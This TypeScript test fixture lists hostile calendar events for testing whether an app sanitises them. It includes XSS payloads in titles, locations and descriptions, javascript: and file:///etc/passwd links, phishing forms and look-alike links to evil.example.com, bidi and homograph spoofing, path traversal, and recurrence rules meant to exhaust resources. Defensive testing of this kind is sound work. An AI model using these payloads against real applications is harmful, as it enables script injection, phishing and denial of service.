/**
 * Events made to break an app or to deceive its person, as Google would pass them on: titles, places, descriptions,
 * links, zones and rules. Each has `Hostile N` in its title, unless the title itself is the attack.
 */

export interface HostileEvent {
  readonly what: string;
  /** Google's fields except the id and the times, which the test adds unless they are part of the attack. */
  readonly fields: Readonly<Record<string, unknown>>;
}

const script = '<script>window.hostile = true</script>';
const image = '<img src="https://tracker.example.com/pixel.png" onerror="window.hostile = true">';

const titles: readonly (readonly [what: string, summary: string])[] = [
  ['markup', `Hostile ${script}<b>bold</b>`],
  ['an image with a handler', `Hostile ${image}`],
  ['a bidi override', 'Hostile \u202efdp.exe\u202c'],
  ['bidi isolates', 'Hostile \u2067evil\u2069 \u2066x\u2069'],
  ['zero-width and control characters', 'Hostile \u200b\u0007\u001b[31mred\u0000\u2060'],
  ['many lines', `Hostile\n\n\n\r\nUp to date\nSync now`],
  ['ten thousand characters', `Hostile ${'W'.repeat(10_000)}`],
  ['stacked accents', `Hostile ${'Z\u0351\u036b\u0343\u036a\u0302'.repeat(200)}`],
  ['menu mnemonics', 'Hostile && & _x_ &Quit'],
  ['a lone surrogate', 'Hostile \ud800 \udc00'],
  ['formatting words', 'Hostile %s %n ${alert(1)} {{1+1}}'],
  ['tag characters', 'Hostile \u{e0041}\u{e0042}'],
];

const descriptions: readonly (readonly [what: string, description: string])[] = [
  ['a script', script],
  ['an image from elsewhere', image],
  ['a frame', '<iframe src="https://evil.example.com"></iframe><object data="x"></object><embed src="x">'],
  [
    'a form',
    '<form action="https://evil.example.com"><input name="p" autofocus><button>Sign in</button></form>',
  ],
  ['styles', '<style>*{display:none!important}</style><div style="position:fixed;inset:0">Over all</div>'],
  ['svg', '<svg onload="window.hostile = true"><a xlink:href="javascript:1"><text>x</text></a></svg>'],
  ['math and namespaces', '<math><mtext><table><mglyph><style><img src=x onerror="window.hostile=true">'],
  [
    'a base and a refresh',
    '<base href="https://evil.example.com/"><meta http-equiv="refresh" content="0;url=//evil">',
  ],
  [
    'links of other kinds',
    '<a href="javascript:window.hostile=true">a</a><a href="data:text/html,x">b</a><a href="file:///etc/passwd">c</a>',
  ],
  ['a link that says another', '<a href="https://evil.example.com/login">https://accounts.google.com</a>'],
  ['deep nesting', '<div>'.repeat(20_000)],
  ['a megabyte', 'x '.repeat(500_000)],
  ['comments and half tags', '<!--><img src=x onerror=window.hostile=true>--><a href="htt'],
];

const links: readonly (readonly [what: string, fields: Record<string, unknown>])[] = [
  ['a javascript link to join', { hangoutLink: 'javascript:window.hostile=true' }],
  ['a file to join', { location: 'file:///etc/passwd' }],
  ['credentials in the link', { location: 'https://zoom.us@evil.example.com/j/123456789' }],
  ['a service’s name as another host', { location: 'https://zoom.us.evil.example.com/j/123456789' }],
  ['a look-alike host', { location: 'https://z\u043e\u043em.us/j/123456789' }],
  [
    'an address of a program',
    { conferenceData: { entryPoints: [{ entryPointType: 'video', uri: 'zoommtg://x' }] } },
  ],
  ['an attachment of another kind', { attachments: [{ fileUrl: 'javascript:1', title: 'Agenda' }] }],
];

const times: readonly (readonly [what: string, fields: Record<string, unknown>])[] = [
  ['a zone that is none', { start: { timeZone: '../../etc/passwd' } }],
  ['a rule without an end, every second', { recurrence: ['RRULE:FREQ=SECONDLY'] }],
  [
    'a rule that explodes',
    {
      recurrence: [
        `RRULE:FREQ=YEARLY;BYMONTHDAY=${range(31)};BYHOUR=${range(23)};BYMINUTE=${range(59)};BYSECOND=${range(59)}`,
      ],
    },
  ],
  [
    'a rule of megabytes',
    { recurrence: [`EXDATE:${'20260101T000000Z,'.repeat(20_000)}`, 'RRULE:FREQ=DAILY'] },
  ],
  ['a rule that is none', { recurrence: ['RRULE:FREQ=NEVER;COUNT=-1', 'X-EVIL:1'] }],
];

function range(last: number): string {
  return Array.from({ length: last }, (_, index) => index + 1).join(',');
}

export const hostileEvents: readonly HostileEvent[] = [
  ...titles.map(([what, summary]) => ({ what: `title: ${what}`, fields: { summary } })),
  ...titles.map(([what, text], index) => ({
    what: `place: ${what}`,
    fields: { summary: `Hostile place ${index}`, location: text },
  })),
  ...descriptions.map(([what, description], index) => ({
    what: `description: ${what}`,
    fields: { summary: `Hostile description ${index}`, description },
  })),
  ...links.map(([what, fields], index) => ({
    what: `link: ${what}`,
    fields: { summary: `Hostile link ${index}`, ...fields },
  })),
  ...times.map(([what, fields], index) => ({
    what: `time: ${what}`,
    fields: { summary: `Hostile time ${index}`, ...fields },
  })),
  {
    what: 'people',
    fields: {
      summary: 'Hostile people',
      attendees: Array.from({ length: 300 }, (_, index) => ({
        email: `${script}${index}@example.com`,
        displayName: `\u202e${image}`,
        responseStatus: 'accepted',
      })),
    },
  },
];
